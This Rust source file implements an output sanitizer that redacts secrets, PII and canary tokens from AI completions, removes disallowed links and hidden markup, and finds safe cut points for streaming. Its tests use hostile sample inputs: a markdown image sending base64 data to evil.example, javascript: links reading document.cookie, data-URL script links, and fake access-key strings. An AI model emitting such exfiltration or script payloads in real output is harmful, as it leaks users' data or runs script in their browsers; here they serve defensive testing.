//! `sanitize`: one pass of every detector over a text, resolved into edits on the original.
//!
//! Order matters and is fixed: hidden markup first (everything after it sees the text a
//! reader sees), then credentials, PII and canaries (located by palisade-detect), then
//! links and URLs, then the check that no redaction notice has become a link itself.
//!
//! The same analysis serves the stream guard, which runs it over a window of text whose
//! end is not the end of the completion (`at_eof == false`). For that case it also says
//! where the window may safely be cut: see [`Analysis::semantic_cut`].

use std::borrow::Cow;
use std::ops::Range;

use crate::detectors;
use crate::edit::{render, resolve, Edit, OffsetMap};
use crate::fold::fold;
use crate::hidden::{strip, Stripped};
use crate::markup;
use crate::options::{Class, ClassSet, SanitizeOptions};

/// One thing the gate did (or, for a flagged encoded canary, found).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Applied {
    /// What kind of finding it is.
    pub class: Class,
    /// Stable rule name: the palisade-detect rule for secrets (`aws-access-token`), the PII
    /// kind (`email`), `canary-token` / `canary-token-encoded`, the URL verdict for links
    /// (`host-not-allowlisted`, `exfil-url`, `script-url`, `data-url`,
    /// `unsupported-scheme`), the hidden-markup kind (`html-comment`, `zero-width`,
    /// `unicode-tag`, `bidi-control`, `variation-selector`), or `oversized-token`.
    pub rule: &'static str,
    /// Byte span of the whole construct in the original text (for a stream: in the whole
    /// completion so far). A finding inside another one's span (a key inside a removed URL)
    /// is still reported; its text went with the outer construct.
    pub span_in_original: Range<usize>,
}

/// The result of [`sanitize`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sanitized<'a> {
    /// The text to emit. Borrowed (no allocation) when nothing applied.
    pub text: Cow<'a, str>,
    /// What was found and neutralized, ordered by position.
    pub actions: Vec<Applied>,
    /// A canary token appeared, plain or encoded: protected context leaked.
    pub canary_leaked: bool,
}

impl Sanitized<'_> {
    /// True if the response should be refused rather than sanitized: a canary leaked, or a
    /// finding of a class in `block`. The caller answers with `finish_reason:
    /// "content_filter"`.
    pub fn blocked_by(&self, block: ClassSet) -> bool {
        self.canary_leaked || self.actions.iter().any(|a| block.contains(a.class))
    }
}

/// Sanitizes a model's completion. See the crate docs for what each class does.
///
/// Pure and linear in `text.len()`: every construct is parsed within a fixed bound, and
/// every detector runs once (credentials in overlapping pieces of at most 896 bytes).
///
/// ```
/// use palisade_output::{sanitize, SanitizeOptions};
/// let s = sanitize("Sure! ![chart](https://evil.example/c.png) Key: AKIAZ7Q2LM4XK3PT6WRB.", &SanitizeOptions::default());
/// assert_eq!(s.text, "Sure! [image removed: evil.example] Key: [REDACTED:aws-access-token].");
/// let clean = sanitize("Nothing to see here.", &SanitizeOptions::default());
/// assert!(matches!(clean.text, std::borrow::Cow::Borrowed(_)));
/// ```
pub fn sanitize<'a>(text: &'a str, opts: &SanitizeOptions) -> Sanitized<'a> {
    let a = analyze(text, opts, true);
    let out = render(text, &a.edits, 0..text.len());
    Sanitized {
        text: out,
        actions: a.findings,
        canary_leaked: a.canary_leaked,
    }
}

/// Findings and edits of the second phase, in STRIPPED-text coordinates.
#[derive(Debug, Default)]
pub(crate) struct Phase2 {
    pub edits: Vec<Edit>,
    pub findings: Vec<Applied>,
    /// Whole extents of parsed constructs (allowed ones too): a stream is never cut inside.
    pub zones: Vec<Range<usize>>,
    /// Replacements that read `[…]`, whose next character is checked by
    /// [`markup::marker_tails`].
    pub markers: Vec<Range<usize>>,
    /// Start of the first construct the text ended inside of.
    pub open: Option<usize>,
}

impl Phase2 {
    pub fn edit(&mut self, span: Range<usize>, with: String) {
        self.edits.push(Edit { span, with });
    }

    pub fn open_at(&mut self, p: usize) {
        self.open = Some(self.open.map_or(p, |o| o.min(p)));
    }

    fn redact(&mut self, class: Class, rule: &'static str, span: Range<usize>, label: &str) {
        self.edit(span.clone(), format!("[REDACTED:{label}]"));
        self.markers.push(span.clone());
        self.findings.push(Applied {
            class,
            rule,
            span_in_original: span,
        });
    }
}

/// What kind of construct a window ended inside of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Open {
    /// An HTML comment without its `-->`.
    Comment,
    /// A PEM private-key block without its END line.
    Pem,
    /// A link, image, tag or URL not yet complete.
    Markup,
}

/// Everything known about one text (or one window of a stream).
#[derive(Debug)]
pub(crate) struct Analysis<'a> {
    pub text: &'a str,
    stripped: Cow<'a, str>,
    map: OffsetMap,
    /// Resolved edits, original coordinates.
    pub edits: Vec<Edit>,
    /// Findings, original coordinates, by start.
    pub findings: Vec<Applied>,
    pub canary_leaked: bool,
    /// The earliest construct the window ended inside of (original coordinates).
    pub open: Option<(usize, Open)>,
    /// The earliest comment or PEM block the window ended inside of: the constructs the
    /// guard skips to their end when they outgrow the hold bound.
    pub open_skip: Option<(usize, Open)>,
    /// Spans a cut must not fall strictly inside (original coordinates, sorted, merged).
    nocut: Vec<Range<usize>>,
    /// Canary cores (lowercase skeletons), forwards and reversed.
    cores: Vec<Vec<u8>>,
    /// The text's canary skeleton: lowercase ASCII alphanumerics of the folded text, with
    /// their stripped positions (only when there are canaries).
    skel: Vec<(usize, u8)>,
    /// The skeleton of what came before the window (the stream guard's memory of text it
    /// no longer holds): a canary may have started there.
    pre_skel: Vec<u8>,
    at_eof: bool,
    /// Start (stripped coordinates) of the last, possibly incomplete, token.
    trailing: usize,
}

pub(crate) fn analyze<'a>(text: &'a str, opts: &SanitizeOptions, at_eof: bool) -> Analysis<'a> {
    let stripped = if opts.hidden {
        strip(text, at_eof)
    } else {
        Stripped::identity(text)
    };
    let Stripped {
        text: t1,
        map,
        edits: hidden_edits,
        findings: hidden_findings,
        open: comment_open,
    } = stripped;
    let t: &str = &t1;
    // Credentials, PII and canaries are matched with compatibility forms folded to ASCII
    // (fullwidth, mathematical, enclosed); their spans map back to `t`.
    let need_fold = opts.secrets || opts.pii || !opts.canaries.is_empty();
    let folded = fold(if need_fold { t } else { "" });
    let f_text: &str = if need_fold { &folded.text } else { t };
    let mut p2 = Phase2::default();
    let mut pem_open = None;
    if opts.secrets {
        for f in detectors::secrets(f_text) {
            p2.redact(Class::Secret, f.rule, folded.span(&f.span), f.rule);
        }
        let (blocks, open) = detectors::pem_blocks(t, at_eof);
        for b in blocks {
            p2.redact(Class::Secret, "private-key", b, "private-key");
        }
        pem_open = open;
    }
    if opts.pii {
        for f in detectors::pii(f_text) {
            p2.redact(Class::Pii, f.rule, folded.span(&f.span), f.rule);
        }
    }
    // Canaries are looked for in the stripped text (where hiding characters cannot split
    // them) and, when hidden markup was removed, in the original too: a canary inside an
    // HTML comment never reaches the reader, but it still proves the leak.
    let mut canary_leaked = false;
    let mut raw_canaries: Vec<Applied> = Vec::new();
    // The skeleton canaries are matched in (folded text, positions in `t`).
    let f_skel = if opts.canaries.is_empty() {
        Vec::new()
    } else {
        detectors::skeleton(f_text)
    };
    for c in &opts.canaries {
        let hits = detectors::canary_hits(c, f_text)
            .into_iter()
            .chain(detectors::reversed_hits(c, f_text, &f_skel));
        for f in hits {
            canary_leaked = true;
            let span = folded.span(&f.span);
            if f.rule == "canary-token" || f.rule == "canary-token-reversed" {
                p2.redact(Class::Canary, f.rule, span, "canary");
            } else {
                // Encoded somewhere in the text: nothing precise to cut out.
                p2.findings.push(Applied {
                    class: Class::Canary,
                    rule: f.rule,
                    span_in_original: span,
                });
            }
        }
        if matches!(t1, Cow::Owned(_)) {
            for f in detectors::canary_hits(c, text) {
                canary_leaked = true;
                raw_canaries.push(Applied {
                    class: Class::Canary,
                    rule: f.rule,
                    span_in_original: f.span,
                });
            }
        }
    }
    if opts.links {
        markup::scan(t, at_eof, &opts.allow, opts.bare_domains, &mut p2);
        markup::marker_tails(t, at_eof, &opts.allow, &mut p2);
    }

    let mut edits = hidden_edits;
    edits.extend(p2.edits.into_iter().map(|e| Edit {
        span: map.span(&e.span),
        with: e.with,
    }));
    let edits = resolve(edits);
    let mut findings = hidden_findings;
    findings.extend(p2.findings.into_iter().map(|f| Applied {
        span_in_original: map.span(&f.span_in_original),
        ..f
    }));
    for raw in raw_canaries {
        let r = &raw.span_in_original;
        let known = findings.iter().any(|f| {
            f.class == Class::Canary
                && f.span_in_original.start < r.end
                && r.start < f.span_in_original.end
        });
        if !known {
            findings.push(raw);
        }
    }
    findings.sort_by_key(|f| (f.span_in_original.start, f.span_in_original.end));

    fn earliest(a: Option<(usize, Open)>, b: Option<(usize, Open)>) -> Option<(usize, Open)> {
        match (a, b) {
            (Some(x), Some(y)) => Some(if y.0 < x.0 { y } else { x }),
            (x, y) => x.or(y),
        }
    }
    let open_skip = earliest(
        comment_open.map(|p| (p, Open::Comment)),
        pem_open.map(|p| (map.start(p), Open::Pem)),
    );
    let open = earliest(open_skip, p2.open.map(|p| (map.start(p), Open::Markup)));

    let mut nocut: Vec<Range<usize>> = p2.zones.iter().map(|z| map.span(z)).collect();
    nocut.extend(edits.iter().map(|e| e.span.clone()));
    nocut.sort_by_key(|r| r.start);
    let mut merged: Vec<Range<usize>> = Vec::with_capacity(nocut.len());
    for r in nocut {
        match merged.last_mut() {
            Some(last) if r.start <= last.end => last.end = last.end.max(r.end),
            _ => merged.push(r),
        }
    }

    let trailing = if at_eof { t.len() } else { trailing_token(t) };
    let cores: Vec<Vec<u8>> = opts
        .canaries
        .iter()
        .map(detectors::canary_core)
        .flat_map(|c| [c.bytes().collect(), c.bytes().rev().collect()])
        .collect();
    let skel = f_skel
        .iter()
        .map(|&(p, c)| (folded.to_source(p), c))
        .collect();
    Analysis {
        text,
        stripped: t1,
        map,
        edits,
        findings,
        canary_leaked,
        open,
        open_skip,
        nocut: merged,
        cores,
        skel,
        pre_skel: Vec::new(),
        at_eof,
        trailing,
    }
}

/// How many skeleton characters around a cut the canary check looks at (more than any
/// canary core).
const CORE_WINDOW: usize = 32;

/// Ends of a sentence or clause in CJK text (no space follows them).
const CJK_STOPS: &[char] = &['。', '！', '？'];
/// CJK punctuation after which a forced cut may fall.
const CJK_BREAKS: &[char] = &['。', '！', '？', '，', '、', '；', '：'];

/// Start of the last whitespace-delimited token of `t` (`t.len()` if `t` ends in
/// whitespace): it may still grow, so nothing from it is released.
fn trailing_token(t: &str) -> usize {
    t.char_indices()
        .rev()
        .find(|&(_, c)| c.is_ascii_whitespace() || CJK_BREAKS.contains(&c))
        .map_or(0, |(i, c)| i + c.len_utf8())
}

impl Analysis<'_> {
    /// Stripped position of original position `o` (rounded down into a deletion).
    fn to_stripped(&self, o: usize) -> usize {
        // `map.end` is monotone: the largest p with map.end(p) <= o.
        let (mut lo, mut hi) = (0usize, self.stripped.len());
        while lo < hi {
            let mid = (lo + hi).div_ceil(2);
            if self.map.end(mid) <= o {
                lo = mid;
            } else {
                hi = mid - 1;
            }
        }
        lo
    }

    /// The latest position (original) up to which text may be released: before an
    /// unresolved construct (with `structural` false, only comments and PEM blocks count)
    /// and, while more text may come, before the last token.
    pub fn hold_limit(&self, structural: bool) -> usize {
        let mut lim = self.text.len();
        if !self.at_eof {
            lim = lim.min(self.map.start(self.trailing));
        }
        let open = if structural {
            self.open
        } else {
            self.open_skip
        };
        if let Some((p, _)) = open {
            lim = lim.min(p);
        }
        lim
    }

    fn inside_nocut(&self, o: usize) -> bool {
        let i = self.nocut.partition_point(|r| r.start < o);
        i > 0 && self.nocut[i - 1].end > o
    }

    /// A `\n` at stripped position `q` may end a segment: the line does not end in a way
    /// that a detector continues across the line break (a phone number's digits, a JSON
    /// `"type":` key).
    fn line_break_ok(&self, q: usize) -> bool {
        let line = &self.stripped[..q];
        if line
            .as_bytes()
            .last()
            .is_some_and(|&c| c.is_ascii_digit() || c == b')')
        {
            return false;
        }
        let key = line.trim_end_matches([' ', '\t']);
        let key = key
            .strip_suffix(':')
            .unwrap_or(key)
            .trim_end_matches([' ', '\t']);
        !key.ends_with("\"type\"")
    }

    /// Tells the analysis what the canary skeleton was before the window (the last
    /// characters of text the guard no longer holds).
    pub fn set_pre_skeleton(&mut self, pre: &[u8]) {
        self.pre_skel = pre.to_vec();
    }

    /// A canary that started before the window and completes inside it: the skeleton the
    /// guard remembers, followed by the window's, holds a core that begins in the former.
    pub fn canary_across(&self) -> bool {
        if self.cores.is_empty() || self.pre_skel.is_empty() {
            return false;
        }
        let pre = &self.pre_skel;
        let head: Vec<u8> = pre
            .iter()
            .copied()
            .chain(self.skel.iter().map(|&(_, c)| c).take(CORE_WINDOW))
            .collect();
        self.cores.iter().any(|core| {
            !core.is_empty()
                && head
                    .windows(core.len())
                    .take(pre.len())
                    .any(|w| w == core.as_slice())
        })
    }

    /// No canary could run across stripped position `p`: the skeleton before it (however
    /// far back, into what the guard remembers of earlier text) does not end in a prefix
    /// of a canary core (forwards or reversed) that the skeleton after it continues (or, at
    /// the window's end, might still continue).
    fn canary_ok(&self, p: usize) -> bool {
        if self.cores.is_empty() {
            return true;
        }
        let k = self.skel.partition_point(|&(q, _)| q < p);
        let lo = k.saturating_sub(CORE_WINDOW);
        let mut before: Vec<u8> = Vec::with_capacity(CORE_WINDOW);
        if k - lo < CORE_WINDOW {
            let need = CORE_WINDOW - (k - lo);
            before.extend_from_slice(&self.pre_skel[self.pre_skel.len().saturating_sub(need)..]);
        }
        before.extend(self.skel[lo..k].iter().map(|&(_, c)| c));
        let hi = (k + CORE_WINDOW).min(self.skel.len());
        let after: Vec<u8> = self.skel[k..hi].iter().map(|&(_, c)| c).collect();
        let open_end = hi == self.skel.len() && !self.at_eof;
        for core in &self.cores {
            for n in 1..core.len().min(before.len() + 1) {
                if !before.ends_with(&core[..n]) {
                    continue;
                }
                let need = &core[n..];
                if after.len() >= need.len() {
                    if &after[..need.len()] == need {
                        return false;
                    }
                } else if open_end && need.starts_with(&after) {
                    return false;
                }
            }
        }
        true
    }

    fn cut_ok(&self, p: usize, o: usize, from: usize, limit: usize) -> bool {
        o > from && o <= limit && !self.inside_nocut(o) && self.canary_ok(p)
    }

    /// The latest safe cut after `from` at a semantic boundary: after a newline, after
    /// `.`/`!`/`?` and a whitespace character, or after a CJK full stop. Original coordinates.
    pub fn semantic_cut(&self, from: usize) -> Option<usize> {
        let limit = self.hold_limit(true);
        let t = &*self.stripped;
        let b = t.as_bytes();
        let lo = self.to_stripped(from);
        let mut p = self.to_stripped(limit).min(b.len());
        while p > lo {
            let boundary = match b[p - 1] {
                b'\n' => self.line_break_ok(p - 1),
                c if c.is_ascii_whitespace() => p >= 2 && matches!(b[p - 2], b'.' | b'!' | b'?'),
                _ => {
                    t.is_char_boundary(p)
                        && t[..p]
                            .chars()
                            .next_back()
                            .is_some_and(|c| CJK_STOPS.contains(&c))
                }
            };
            if boundary {
                let o = self.map.end(p);
                if self.cut_ok(p, o, from, limit) {
                    return Some(o);
                }
            }
            p -= 1;
        }
        None
    }

    /// The latest cut after `from` at any token boundary, for when the hold bound is
    /// reached without a semantic boundary. Backs off over a trailing run of short numeric
    /// tokens (a card or phone number written in groups). With `structural` false, an
    /// incomplete link or tag does not hold text back (its URL still does, as a token).
    pub fn forced_cut(&self, from: usize, structural: bool) -> Option<usize> {
        let limit = self.hold_limit(structural);
        let t = &*self.stripped;
        let b = t.as_bytes();
        let lo = self.to_stripped(from);
        let mut p = numeric_backoff(b, self.to_stripped(limit).min(b.len()));
        while p > lo {
            let boundary = b[p - 1].is_ascii_whitespace()
                || (t.is_char_boundary(p)
                    && t[..p]
                        .chars()
                        .next_back()
                        .is_some_and(|c| CJK_BREAKS.contains(&c)));
            if boundary {
                let o = self.map.end(p);
                if self.cut_ok(p, o, from, limit) {
                    return Some(o);
                }
            }
            p -= 1;
        }
        None
    }

    /// The latest cut after `from` from which nothing could still complete across it, at
    /// any token boundary: safe as for [`Self::forced_cut`], and also not after a short
    /// code-like group (a card, phone number or IBAN written in groups may go on) nor after
    /// a JSON `"type":` key. A release here keeps the output exactly `sanitize` of the
    /// whole text, which is what lets a stream be released by time.
    pub fn quiet_cut(&self, from: usize) -> Option<usize> {
        let limit = self.hold_limit(true);
        let t = &*self.stripped;
        let b = t.as_bytes();
        let lo = self.to_stripped(from);
        let mut p = self.to_stripped(limit).min(b.len());
        while p > lo {
            let boundary = b[p - 1].is_ascii_whitespace()
                || (t.is_char_boundary(p)
                    && t[..p]
                        .chars()
                        .next_back()
                        .is_some_and(|c| CJK_BREAKS.contains(&c)));
            if boundary && !after_group(b, p) && !after_type_key(&t[..p]) {
                let o = self.map.end(p);
                if self.cut_ok(p, o, from, limit) {
                    return Some(o);
                }
            }
            p -= 1;
        }
        None
    }

    /// True if a finding in `[from, ..)` is final (no more text can change it) and must
    /// stop the stream: any canary, or a class in `block` that ends before the hold limit.
    pub fn blocking(&self, from: usize, block: ClassSet) -> Vec<Applied> {
        let limit = self.hold_limit(true);
        self.findings
            .iter()
            .filter(|f| {
                f.span_in_original.end > from
                    && (f.class == Class::Canary
                        || (block.contains(f.class) && f.span_in_original.end <= limit))
            })
            .cloned()
            .collect()
    }
}

/// Moves `p` back over up to 64 bytes of short tokens made of digits, capitals and
/// `+()-./` separated by single spaces: `4111 1111 1111 1111` is one number to a PII
/// finder, so a forced cut must not fall between its groups.
fn numeric_backoff(b: &[u8], mut p: usize) -> usize {
    let floor = p.saturating_sub(64);
    loop {
        if p < 2 || p <= floor || b[p - 1] != b' ' {
            return p;
        }
        let end = p - 1;
        let start = b[..end]
            .iter()
            .rposition(|c| c.is_ascii_whitespace())
            .map_or(0, |i| i + 1);
        let tok = &b[start..end];
        let numeric = !tok.is_empty()
            && tok.len() <= 8
            && tok.iter().any(u8::is_ascii_digit)
            && tok
                .iter()
                .all(|c| c.is_ascii_digit() || c.is_ascii_uppercase() || b"+()-./".contains(c));
        if !numeric || start < floor {
            return p;
        }
        p = start;
    }
}

/// True if the text before `p` (which follows a whitespace character) ends in a short
/// code-like group: at most 8 bytes of digits, capitals and `+()-./`. A PII finder reads
/// `4111 1111 1111 1111`, `+1 (415) 555 0134` and `GB82 WEST 1234 5698 7654 32` as one.
fn after_group(b: &[u8], p: usize) -> bool {
    let end = p - 1;
    let lo = end.saturating_sub(9);
    let start = match b[lo..end].iter().rposition(u8::is_ascii_whitespace) {
        Some(i) => lo + i + 1,
        None if lo == 0 => 0,
        None => return false,
    };
    let tok = &b[start..end];
    !tok.is_empty()
        && tok.len() <= 8
        && tok
            .iter()
            .all(|c| c.is_ascii_digit() || c.is_ascii_uppercase() || b"+()-./".contains(c))
}

/// True if `before` ends in a JSON `"type"` key (and its colon): the
/// `gcp-service-account` rule continues across the whitespace after it.
fn after_type_key(before: &str) -> bool {
    let key = before.trim_end_matches(|c: char| c.is_ascii_whitespace());
    let key = key
        .strip_suffix(':')
        .unwrap_or(key)
        .trim_end_matches(|c: char| c.is_ascii_whitespace());
    key.ends_with("\"type\"")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::options::LinkAllow;

    fn opts() -> SanitizeOptions {
        SanitizeOptions {
            allow: LinkAllow::hosts(["docs.rs", "*.example.com"]).unwrap(),
            ..SanitizeOptions::default()
        }
    }

    fn check(input: &str, expect: &str) {
        let s = sanitize(input, &opts());
        assert_eq!(s.text, expect, "input {input:?}, actions {:?}", s.actions);
    }

    fn rules(input: &str) -> Vec<&'static str> {
        sanitize(input, &opts())
            .actions
            .iter()
            .map(|a| a.rule)
            .collect()
    }

    #[test]
    fn secrets_are_redacted_by_rule() {
        check(
            "key AKIAZ7Q2LM4XK3PT6WRB and ghp_1234567890abcdefghijklmnopqrstuvwxyz.",
            "key [REDACTED:aws-access-token] and [REDACTED:github-pat].",
        );
        check(
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\nok",
            "[REDACTED:private-key]\nok",
        );
        check(
            "truncated -----BEGIN EC PRIVATE KEY-----\nMHcCAQEEI",
            "truncated [REDACTED:private-key]",
        );
        check("ak\u{200B}IAZ7Q2LM4XK3PT6WRB", "akIAZ7Q2LM4XK3PT6WRB"); // not a key shape
        check(
            "AKIA\u{200B}Z7Q2LM4XK3PT6WRB x",
            "[REDACTED:aws-access-token] x",
        );
    }

    #[test]
    fn pii_by_kind() {
        check(
            "Mail jane.doe@corp.net or call +1 415-555-0134.",
            "Mail [REDACTED:email] or call [REDACTED:phone].",
        );
    }

    #[test]
    fn images_and_links() {
        check(
            "See ![chart](https://evil.example/c.png \"t\") now",
            "See [image removed: evil.example] now",
        );
        check(
            "Read [the docs](https://docs.rs/regex) and [this](https://evil.example/x).",
            "Read [the docs](https://docs.rs/regex) and this (link removed: evil.example).",
        );
        check(
            "[click](javascript:alert(document.cookie))",
            "click (link removed: javascript URL)",
        );
        check("[x](data:text/html,<script>)", "x (link removed: data URL)");
        check("<https://evil.example/a>", "(link removed: evil.example)");
        check(
            "go to https://evil.example/path?q=1. Then",
            "go to (link removed: evil.example). Then",
        );
        check("www.evil.example/x, ok", "(link removed: evil.example), ok");
        check(
            "https://docs.rs/x and https://a.example.com/y",
            "https://docs.rs/x and https://a.example.com/y",
        );
        check(
            "[ref]: https://evil.example/x \"T\"\nuse [ref]",
            "[ref]: (link removed: evil.example)\nuse [ref]",
        );
        check(
            "<img src=\"https://evil.example/p.gif\" alt=x> hi",
            "[image removed: evil.example] hi",
        );
        check(
            "<a href='https://evil.example/'>click <b>me</b></a>!",
            "click <b>me</b> (link removed: evil.example)!",
        );
        check(
            "<div style=\"background:url(//evil.example/x)\">t</div>",
            "(link removed: evil.example)t</div>",
        );
        // A badge: an image inside a link, both denied.
        check(
            "[![build](https://evil.example/b.svg)](https://evil.example/ci)",
            "[image removed: evil.example] (link removed: evil.example)",
        );
        // Allowed link text holding a denied URL.
        check(
            "[see https://evil.example/x](https://docs.rs/)",
            "[see (link removed: evil.example)](https://docs.rs/)",
        );
    }

    #[test]
    fn exfil_image_has_its_own_rule() {
        let input =
            "![x](https://evil.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgdXNlcjogaHVudGVyMg==)";
        check(input, "[image removed: evil.example]");
        assert_eq!(rules(input), vec!["exfil-url"]);
    }

    #[test]
    fn hidden_markup_cannot_assemble_a_link() {
        check(
            "[click]<!-- -->(javascript:alert(1))",
            "click (link removed: javascript URL)",
        );
        check(
            "[click]\u{200B}(https://evil.example/)",
            "click (link removed: evil.example)",
        );
    }

    #[test]
    fn redaction_notice_never_becomes_a_link() {
        check(
            "AKIAZ7Q2LM4XK3PT6WRB(javascript:alert(1))",
            "[REDACTED:aws-access-token] (link removed: javascript URL)",
        );
        check(
            "AKIAZ7Q2LM4XK3PT6WRB: javascript:alert(1)\nx",
            "[REDACTED:aws-access-token]: (link removed: javascript URL)\nx",
        );
        check(
            "![a](https://evil.example/)(//evil.example/2)",
            "[image removed: evil.example] (link removed: evil.example)",
        );
        // To an allowed place, the notice may stay a link.
        check(
            "AKIAZ7Q2LM4XK3PT6WRB(https://docs.rs/)",
            "[REDACTED:aws-access-token](https://docs.rs/)",
        );
    }

    #[test]
    fn untouched_text_is_borrowed_and_identical() {
        for t in [
            "",
            "Plain prose. With sentences!\nAnd `code` and **bold** and [1] and a < b > c.",
            "Allowed: [docs](https://docs.rs/x) <https://docs.rs/y> https://a.example.com/z",
            "emoji 👨\u{200D}👩\u{200D}👧 and 日本語のテキスト。",
        ] {
            let s = sanitize(t, &opts());
            assert!(matches!(s.text, Cow::Borrowed(_)), "{t:?} -> {s:?}");
            assert!(s.actions.is_empty());
        }
    }

    #[test]
    fn classes_can_be_switched_off() {
        let t = "AKIAZ7Q2LM4XK3PT6WRB a@b.co ![x](https://evil.example/) \u{200B}";
        let s = sanitize(t, &SanitizeOptions::off());
        assert_eq!(s.text, t);
        let only_links = SanitizeOptions {
            links: true,
            ..SanitizeOptions::off()
        };
        assert_eq!(
            sanitize(t, &only_links).text,
            "AKIAZ7Q2LM4XK3PT6WRB a@b.co [image removed: evil.example] \u{200B}"
        );
    }

    #[test]
    fn blocked_by() {
        let s = sanitize("key AKIAZ7Q2LM4XK3PT6WRB", &opts());
        assert!(s.blocked_by(ClassSet::EMPTY.with(Class::Secret)));
        assert!(!s.blocked_by(ClassSet::EMPTY.with(Class::Link)));
    }

    #[test]
    fn numeric_backoff_keeps_groups_together() {
        let t = b"card 4111 1111 1111 1111";
        assert_eq!(numeric_backoff(t, t.len() - 4), 5);
        let t = b"hello world again";
        assert_eq!(numeric_backoff(t, 12), 12);
    }
}
